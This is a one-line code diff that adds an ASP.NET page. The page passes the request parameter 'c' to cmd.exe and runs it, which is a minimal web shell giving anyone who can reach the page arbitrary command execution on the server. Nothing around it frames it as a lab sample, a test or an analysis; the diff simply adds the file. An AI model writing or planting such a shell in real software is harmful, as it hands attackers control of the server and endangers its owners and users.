@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% var p = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]); Process.Start(p); %>
